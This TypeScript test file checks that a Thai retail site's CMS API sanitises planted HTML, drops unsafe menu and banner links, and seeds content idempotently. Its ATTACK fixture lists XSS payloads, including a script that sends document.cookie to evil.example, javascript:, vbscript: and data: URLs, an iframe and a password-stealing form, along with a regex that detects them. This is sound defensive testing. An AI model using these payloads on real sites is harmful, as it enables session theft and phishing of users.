import { and, count, eq } from 'drizzle-orm';
import * as v from 'valibot';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { BlogPostResponse, MarketingPageResponse, MenuResponse, PageBlocksResponse, PromotionBannersResponse, topBannerOf } from '../../contract/content.ts';
import { invalidateContent } from '../../server/content/cache.ts';
import { seedContent } from '../../server/content/seed.ts';
import { blogPosts, contentEntries } from '../../server/db/schema.ts';
import { type Answer, send } from './http.ts';
import { startTestServer, type TestServer } from './test-server.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer({ now: () => new Date('2026-11-21T05:00:00Z') });
});
afterAll(() => server?.close());
afterEach(() => vi.restoreAllMocks());

const get = (path: string, lang?: string) => send(server.url, 'GET', path, { headers: lang ? { 'accept-language': lang } : {} });
function ok<S extends v.GenericSchema>(schema: S, answer: Answer): v.InferOutput<S> {
  expect(answer.status, answer.text).toBe(200);
  return v.parse(schema, answer.json);
}

/** Markup an attacker with CMS access (or a compromised editor account) might plant. */
const ATTACK = [
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<img src="/images/p/airtag/white/820.webp" alt="AirTag" onerror="alert(1)">',
  '<a href="javascript:alert(document.domain)">รับส่วนลด</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">คูปอง</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<iframe src="https://evil.example/login"></iframe>',
  '<form action="https://evil.example/steal"><input name="password" type="password"></form>',
  '<p id="cookie" style="position:fixed;inset:0">ยืนยันตัวตน</p>',
  '<a href="/promotion-credit-card-0" target="_blank">ผ่อน 0%</a>',
].join('');

function expectDefused(html: string) {
  expect(html).not.toMatch(/<script|onerror|javascript:|data:text|<meta|http-equiv|<iframe|<form|<input|style=|id="cookie"/i);
  expect(html).toContain('<img src="/images/p/airtag/white/820.webp" alt="AirTag">');
  expect(html).toContain('<a href="/promotion-credit-card-0" target="_blank" rel="noopener noreferrer">ผ่อน 0%</a>');
  expect(html).toContain('ยืนยันตัวตน');
}

const planted = (kind: string, key: string, data: unknown) => server.db.insert(contentEntries).values({ kind, key, locale: 'th', data });

describe('HTML planted straight into the database is answered sanitised', () => {
  it('in the top banner and every block of a page', async () => {
    const entry = { id: 'x', title: 'x', detail: ATTACK, createdAt: '2026-11-01T09:00:00+07:00', updatedAt: '2026-11-01T09:00:00+07:00' };
    const block = { type: 'top-banner', title: '', fullwidth: true, scope: 'all', columnCount: 1, limit: 1, backgroundColor: '#000000', data: [entry] };
    await planted('page', 'planted-page', [
      { ...block, id: 'top-banner' },
      { ...block, id: 'promo', type: 'content-card' },
    ]);
    const blocks = ok(PageBlocksResponse, await get('/pagerender/page/planted-page')).data;
    expectDefused(topBannerOf(blocks)!);
    expectDefused(blocks[1]!.data[0]!.detail);
  });

  it('in a marketing page', async () => {
    await planted('marketing-page', 'planted-page', {
      slug: 'planted-page',
      title: 'โปรโมชัน',
      description: 'โปรโมชัน',
      blocks: [{ id: 'a', title: 'a', html: ATTACK }],
    });
    expectDefused(ok(MarketingPageResponse, await get('/pagerender/marketing-page/planted-page')).data.blocks[0]!.html);
  });

  it('in a blog post, whose list picture is never an unsafe URL', async () => {
    await server.db.insert(blogPosts).values({
      slug: 'planted-post',
      locale: 'th',
      title: 'บทความ',
      excerpt: 'บทความ',
      body: `<img src="javascript:alert(1)" alt="x">${ATTACK}`,
      publishedAt: new Date('2026-11-01T00:00:00Z'),
    });
    const post = ok(BlogPostResponse, await get('/pagerender/blog/planted-post')).data;
    expectDefused(post.body);
    expect(post.image).toBe('/images/p/airtag/white/820.webp');
  });
});

describe('documents with unsafe or malformed parts', () => {
  it('drop menu entries whose link is a script, and normalise the rest', async () => {
    const entry = (name: string, link: string | null, subMenu: unknown[] = []) => ({ name, link, isNew: false, isExternal: false, subMenu });
    await planted('menus', 'planted-menu', [
      entry('ส่วนลด', 'javascript:alert(1)'),
      entry('ข้อมูล', 'data:text/html,<script>alert(1)</script>'),
      entry('เว็บอื่น', '//evil.example'),
      entry('โปรโมชัน', 'www.aprshop.co.th/promotion', [entry('เช็กอิน', 'vbscript:msgbox(1)'), entry('iPhone', '/iphone')]),
    ]);
    const menu = ok(MenuResponse, await get('/pagerender/content/menus/planted-menu')).data;
    expect(menu).toEqual([
      {
        name: 'โปรโมชัน',
        link: 'https://www.aprshop.co.th/promotion',
        isNew: false,
        isExternal: true,
        subMenu: [{ name: 'iPhone', link: '/iphone', isNew: false, isExternal: false, subMenu: [] }],
      },
    ]);
  });

  it('leave out a banner whose link is not a safe URL, logging it, and keep the others', async () => {
    const errors = vi.spyOn(console, 'error').mockImplementation(() => {});
    const where = and(eq(contentEntries.kind, 'promotion-banners'), eq(contentEntries.key, 'all'), eq(contentEntries.locale, 'th'));
    const [row] = await server.db.select().from(contentEntries).where(where);
    const banners = row!.data as { id: string; link: string }[];
    const before = ok(PromotionBannersResponse, await get('/pagerender/content/promotion-banners')).data.map((b) => b.id);

    await server.db
      .update(contentEntries)
      .set({ data: [{ ...banners[0]!, id: 'planted', link: 'javascript:alert(1)' }, ...banners] })
      .where(where);
    invalidateContent(server.db);

    const after = ok(PromotionBannersResponse, await get('/pagerender/content/promotion-banners')).data.map((b) => b.id);
    expect(after).toEqual(before);
    expect(errors).toHaveBeenCalledWith(expect.stringContaining('promotion-banners/all/th[0] left out'));

    await server.db.update(contentEntries).set({ data: banners }).where(where);
    invalidateContent(server.db);
  });
});

describe('seeding content', () => {
  const rowCounts = async () => ({
    entries: (await server.db.select({ n: count() }).from(contentEntries))[0]!.n,
    posts: (await server.db.select({ n: count() }).from(blogPosts))[0]!.n,
  });

  it('is idempotent: seeding again adds no rows and keeps edited content', async () => {
    const where = and(eq(contentEntries.kind, 'top-menus'), eq(contentEntries.key, 'default'), eq(contentEntries.locale, 'en'));
    const edited = [{ name: 'Black Friday', link: '/category/promotion', isNew: true, isExternal: false, subMenu: [] }];
    await server.db.update(contentEntries).set({ data: edited }).where(where);
    const before = await rowCounts();

    await seedContent(server.db);
    await seedContent(server.db);

    expect(await rowCounts()).toEqual(before);
    expect(ok(MenuResponse, await get('/pagerender/content/top-menus/default', 'en')).data).toEqual(edited);
  });

  it('restores a document that was deleted', async () => {
    const where = and(eq(contentEntries.kind, 'compare-product'), eq(contentEntries.key, 'watch'));
    await server.db.delete(contentEntries).where(where);
    invalidateContent(server.db);
    expect((await get('/pagerender/compare-product/watch')).status).toBe(404);

    await seedContent(server.db);
    expect((await get('/pagerender/compare-product/watch')).status).toBe(200);
  });
});
